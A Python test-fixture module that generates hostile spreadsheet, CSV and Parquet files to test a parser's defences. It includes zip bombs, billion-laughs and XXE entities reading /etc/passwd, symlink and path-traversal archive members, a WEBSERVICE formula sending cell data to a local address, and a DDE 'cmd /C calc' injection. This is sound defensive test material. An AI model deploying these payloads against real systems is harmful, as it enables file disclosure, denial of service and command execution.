"""Tables made to do harm: to take all memory, to take hours, to reach files or the network, to run a formula."""

# ruff: noqa: E501 - files written out as they are

from __future__ import annotations

import io
import struct
import zipfile
from typing import TYPE_CHECKING, Any

import pyarrow as pa
import pyarrow.parquet as pq

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable
    from pathlib import Path

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
CELL = '<row r="1"><c r="A1"><v>1</v></c></row>'
_ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f'<worksheet xmlns="{_MAIN}"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'
)
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "haha">'
    + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 12))
    + f']><worksheet xmlns="{_MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a11;</t></is></c></row>'
    "</sheetData></worksheet>"
)
_OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{address}">]>'
    f'<worksheet xmlns="{_MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row>'
    "</sheetData></worksheet>"
)
_UNPACKED = 513 << 20


def xlsx(sheet: str, shared: str = "", extra: dict[str, bytes] | None = None, relations: str = "") -> bytes:
    """A workbook of one sheet.

    Parameters
    ----------
    sheet
        Rows, or a whole part of XML.
    shared
        Shared strings, without their root, or a whole part.
    extra
        Further members of the archive.
    relations
        Further relationships of the workbook.
    """
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_RELATIONS}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELATIONS}"><sheets>'
            '<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_RELATIONS}/worksheet" '
            f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{_RELATIONS}/sharedStrings" '
            f'Target="sharedStrings.xml"/>{relations}</Relationships>',
        )
        if shared:
            archive.writestr(
                "xl/sharedStrings.xml", shared if shared.startswith("<?") else f'<sst xmlns="{_MAIN}">{shared}</sst>'
            )
        whole = (
            sheet
            if sheet.startswith("<?")
            else f'<worksheet xmlns="{_MAIN}"><sheetData>{sheet}</sheetData></worksheet>'
        )
        archive.writestr("xl/worksheets/sheet1.xml", whole)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return made.getvalue()


def ods(rows: str) -> bytes:
    """A spreadsheet of OpenDocument with one sheet of these rows."""
    spaces = "".join(
        f'xmlns:{one}="urn:oasis:names:tc:opendocument:xmlns:{one}:1.0" ' for one in ("office", "table", "text")
    )
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(
            "content.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {spaces}office:version="1.2">'
            f'<office:body><office:spreadsheet><table:table table:name="A">{rows}</table:table></office:spreadsheet></office:body>'
            "</office:document-content>",
        )
        archive.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
    return made.getvalue()


def _cells(text: str, **repeated: int) -> str:
    """One row of an ODS with a cell of this text."""
    of_row = f' table:number-rows-repeated="{repeated["rows"]}"' if "rows" in repeated else ""
    of_cell = f' table:number-columns-repeated="{repeated["columns"]}"' if "columns" in repeated else ""
    cell = f'<table:table-cell office:value-type="string"{of_cell}><text:p>{text}</text:p></table:table-cell>'
    return f"<table:table-row{of_row}>{cell}</table:table-row>"


def _link() -> bytes:
    made = io.BytesIO(xlsx(CELL))
    with zipfile.ZipFile(made, "a") as archive:
        entry = zipfile.ZipInfo("xl/media/x.xml")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return made.getvalue()


def _twice() -> bytes:
    """A member under one name twice: two readers may take another one each."""
    made = io.BytesIO(xlsx(CELL))
    with zipfile.ZipFile(made, "a") as archive:
        entry = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        archive.NameToInfo.pop(entry.filename)
        archive.writestr(
            entry,
            f'<worksheet xmlns="{_MAIN}"><sheetData>{CELL}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
            "</worksheet>",
        )
    return made.getvalue()


def _lying(raw: bytes) -> bytes:
    """A workbook whose list says that its members are empty."""
    at = raw.index(b"PK\x01\x02")
    found = bytearray(raw)
    while (at := raw.find(b"PK\x01\x02", at)) >= 0:
        found[at + 24 : at + 28] = bytes(4)
        at += 4
    return bytes(found)


def _members(count: int) -> bytes:
    """A list of members as long as a file may be."""
    name = b"xl/x"
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *(20, 20, 0, 0, 0, 33), 0, 0, 0, len(name), *(0,) * 6) + name
    first = b"PK\x03\x04" + bytes(26)
    size = len(entry) * count
    wide = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, len(first))
    where = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(first) + size, 1)
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return first + entry * count + wide + where + tail


def locked() -> bytes:
    """The container of a workbook that is locked with a password, with nothing in it."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def _old_excel(fill: bytes) -> bytes:
    """A container of before 2007 whose list of sectors leads in a circle."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    head[24:34] = struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    head[44:48], head[48:52] = struct.pack("<I", 1), struct.pack("<I", 1)
    head[68:76] = struct.pack("<II", 0, 0xFFFFFFFF)
    head[76:80] = struct.pack("<I", 0)
    return bytes(head) + fill * 1024 + "Workbook".encode("utf-16-le")


def _many(form: str, count: int) -> str:
    return "".join(form.format(at=at) for at in range(1, count + 1))


def _parquet(table: pa.Table, **how: Any) -> bytes:
    held = io.BytesIO()
    pq.write_table(table, held, **how)
    return held.getvalue()


def _repeated_parquet() -> bytes:
    """Sixty-seven million rows of one long text, in a dictionary and a count."""
    piece = pa.table(
        {"a": pa.DictionaryArray.from_arrays(pa.array([0] * (1 << 20), pa.int8()), pa.array(["x" * 1000]))}
    )
    held = io.BytesIO()
    with pq.ParquetWriter(held, piece.schema, compression="zstd") as writer:
        for _ in range(64):
            writer.write_table(piece)
    return held.getvalue()


def _footer() -> bytes:
    raw = bytearray(_parquet(pa.table({"a": [1]})))
    raw[-8:-4] = struct.pack("<I", 0x7FFFFFFF)
    return bytes(raw)


def _file(ending: str, make: Callable[[], bytes]) -> Callable[[Path], Path]:
    def made(folder: Path) -> Path:
        path = folder / f"berkas{ending}"
        path.write_bytes(make())
        return path

    return made


def _pieces(ending: str, make: Callable[[], Iterable[bytes]]) -> Callable[[Path], Path]:
    def made(folder: Path) -> Path:
        path = folder / f"berkas{ending}"
        with path.open("wb") as file:
            file.writelines(make())
        return path

    return made


_CORNER = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
MAKERS: dict[str, Callable[[Path], Path]] = {
    # Extent.
    "xlsx: a cell in the last corner": _file(".xlsx", lambda: xlsx(CELL + _CORNER)),
    "xlsx: the same in single quotes": _file(".xlsx", lambda: xlsx(CELL + _CORNER.replace('"', "'"))),
    "xlsx: the same under a prefix": _file(
        ".xlsx",
        lambda: xlsx(
            f'<?xml version="1.0"?><x:worksheet xmlns:x="{_MAIN}"><x:sheetData>'
            + _CORNER.replace("<row", "<x:row")
            .replace("</row", "</x:row")
            .replace("<c ", "<x:c ")
            .replace("</c", "</x:c")
            + "</x:sheetData></x:worksheet>"
        ),
    ),
    "xlsx: the same in UTF-16": _file(
        ".xlsx",
        lambda: xlsx(
            CELL,
            extra={
                "xl/worksheets/b.xml": (
                    f'<?xml version="1.0" encoding="UTF-16"?><worksheet xmlns="{_MAIN}"><sheetData>{_CORNER}</sheetData>'
                    "</worksheet>"
                ).encode("utf-16")
            },
            relations=f'<Relationship Id="r1" Type="{_RELATIONS}/worksheet" Target="worksheets/b.xml"/>',
        ),
    ),
    "xlsx: 42 million rows": _file(
        ".xlsx", lambda: xlsx(CELL + '<row r="4200000"><c r="J4200000"><v>1</v></c></row>')
    ),
    "xlsx: 16,384 columns in 500 rows": _file(
        ".xlsx", lambda: xlsx(_many('<row r="{at}"><c r="A{at}"><v>1</v></c><c r="XFD{at}"><v>1</v></c></row>', 500))
    ),
    "xlsx: 3 million empty rows": _file(".xlsx", lambda: xlsx(CELL + "<row/>" * 3_000_000)),
    # Text.
    "xlsx: one long text in 200,000 cells": _file(
        ".xlsx",
        lambda: xlsx(
            _many('<row r="{at}"><c r="A{at}" t="s"><v>0</v></c></row>', 200_000),
            shared=f"<si><t>{'x' * 30_000}</t></si>",
        ),
    ),
    "xlsx: 4 million shared texts in single quotes": _file(
        ".xlsx",
        lambda: xlsx(
            CELL,
            shared=f"<?xml version='1.0'?><sst xmlns='{_MAIN}' count='4000000'>"
            + "<si><t>x</t></si>" * 4_000_000
            + "</sst>",
        ),
    ),
    "xlsx: a cell of 40 MB": _file(
        ".xlsx", lambda: xlsx(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"x" * (40 << 20)}</t></is></c></row>')
    ),
    "xlsx: formulas that ask the network": _file(
        ".xlsx",
        lambda: xlsx(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>kode</t></is></c></row>'
            '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>x</v></c></row>'
            '<row r="3"><c r="A3" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c></row>'
        ),
    ),
    # XML.
    "xlsx: entities": _file(".xlsx", lambda: xlsx(_ENTITIES)),
    "xlsx: ten thousand million laughs": _file(".xlsx", lambda: xlsx(_LAUGHS)),
    "xlsx: an entity that is a file": _file(".xlsx", lambda: xlsx(_OUTSIDE.format(address="file:///etc/passwd"))),
    "xlsx: an entity at an address": _file(".xlsx", lambda: xlsx(_OUTSIDE.format(address="http://127.0.0.1:9/x"))),
    "xlsx: entities in another encoding": _file(
        ".xlsx", lambda: xlsx(CELL, extra={"xl/theme.xml": _ENTITIES.encode("utf-16")})
    ),
    "xlsx: a million nested elements": _file(
        ".xlsx",
        lambda: xlsx(
            f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}">'
            + "<x>" * 1_000_000
            + "</x>" * 1_000_000
            + "</worksheet>"
        ),
    ),
    "xlsx: two million merged ranges": _file(
        ".xlsx",
        lambda: xlsx(
            f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData>{CELL}</sheetData><mergeCells>'
            + '<mergeCell ref="A1:B2"/>' * 2_000_000
            + "</mergeCells></worksheet>"
        ),
    ),
    "xlsx: a merged range over everything": _file(
        ".xlsx",
        lambda: xlsx(
            f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}"><sheetData>{CELL}</sheetData><mergeCells>'
            '<mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
        ),
    ),
    # Archives.
    "xlsx: a bomb": _file(".xlsx", lambda: xlsx(CELL, extra={"xl/media/a.bin": b"\0" * _UNPACKED})),
    "xlsx: an archive in it": _file(".xlsx", lambda: xlsx(CELL, extra={"xl/x.zip": xlsx(CELL)})),
    "xlsx: a link in it": _file(".xlsx", _link),
    "xlsx: a way out": _file(".xlsx", lambda: xlsx(CELL, extra={"../../etc/x.xml": b"<a/>", "/etc/y.xml": b"<a/>"})),
    "xlsx: thousands of members": _file(
        ".xlsx", lambda: xlsx(CELL, extra={f"xl/{at}.xml": b"<a/>" for at in range(3_000)})
    ),
    "xlsx: a million members": _file(".xlsx", lambda: _members(1_000_000)),
    "xlsx: a member twice": _file(".xlsx", _twice),
    "xlsx: sizes of nothing": _file(".xlsx", lambda: _lying(xlsx(CELL + _CORNER))),
    "xlsx: a sheet that is itself the workbook": _file(
        ".xlsx",
        lambda: xlsx(CELL, relations=f'<Relationship Id="r1" Type="{_RELATIONS}/worksheet" Target="workbook.xml"/>'),
    ),
    "xlsx: a sheet outside of it": _file(
        ".xlsx",
        lambda: xlsx(
            CELL,
            relations=f'<Relationship Id="r1" Type="{_RELATIONS}/worksheet" TargetMode="External" '
            'Target="http://127.0.0.1:9/x.xml"/>',
        ),
    ),
    "xlsx: locked with a password": _file(".xlsx", locked),
    "xlsx: no zip at all": _file(".xlsx", lambda: b"a,b\n1,2\n"),
    "xlsx: cut off": _file(".xlsx", lambda: xlsx(CELL)[:-40]),
    # OpenDocument.
    "ods: a text in place of an archive": _file(".ods", lambda: b"mimetype"),
    "ods: an xlsx that says it is one": _file(".ods", lambda: xlsx(CELL)),
    "ods: a cell a thousand million times": _file(".ods", lambda: ods(_cells("x", rows=1_000_000, columns=1_000))),
    "ods: two thousand million blanks": _file(".ods", lambda: ods(_cells('<text:s text:c="2000000000"/>'))),
    "ods: a number of rows below nothing": _file(".ods", lambda: ods(_cells("x", rows=-5))),
    # Old Excel.
    "xls: of an old Excel": _file(".xls", locked),
    "xls: sectors in a circle": _file(".xls", lambda: _old_excel(struct.pack("<I", 0) * 128)),
    "xls: a page of the web": _file(".xls", lambda: b"<html><table>" + b"<tr><td>x" * 1_000_000),
    # Text.
    "csv: a line of 10 MB": _file(".csv", lambda: b"x" * 10_000_000),
    "csv: a million columns": _file(".csv", lambda: b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000),
    "csv: 60 million blank lines": _file(".csv", lambda: b"a,b\n1,2\n" + b"\n" * 60_000_000),
    "csv: a quote that never closes over 60 MB": _file(".csv", lambda: b'a,b\n1,"' + b"x,y\n" * 15_000_000),
    "csv: zeros": _file(".csv", lambda: b"a,b\n1,\0\n"),
    "csv: nothing": _file(".csv", lambda: b""),
    "csv: blanks": _file(".csv", lambda: b" \n;;\n"),
    "csv: half letters in UTF-16": _file(
        ".csv", lambda: b"\xff\xfe" + "a,b\n1,".encode("utf-16-le") + b"\x00\xd8\x00"
    ),
    "csv: UTF-32": _file(".csv", lambda: "a,b\n1,2\n".encode("utf-32")),
    "csv: a letter with 100,000 accents": _file(".csv", ("a" + "\u0301" * 100_000 + ",b\n1,2\n").encode),
    "csv: a million signs that patterns stumble over": _pieces(
        ".csv",
        lambda: (
            b"tanggal,jumlah,kelurahan\n",
            *(
                f"{sign * 10_000},{sign * 10_000},{sign * 10_000}\n".encode()
                for sign in ("-", "(", " 1", "1.", "/", "'", "\u200b", "a ", "\t", ". ")
                for _ in range(4)
            ),
        ),
    ),
    "csv: numbers of 9,999 digits and none": _file(
        ".csv", ("a,b\n" + "9" * 9_999 + ",1e400\nnan,inf\n1e-400,-0\n").encode
    ),
    # Parquet.
    "parquet: footer longer than the file": _file(".parquet", _footer),
    "parquet: 67 million long texts": _file(".parquet", _repeated_parquet),
    "parquet: lists in lists": _file(
        ".parquet", lambda: _parquet(pa.table({"a": pa.array([[[["x"] * 100]] * 100] * 100)}))
    ),
}
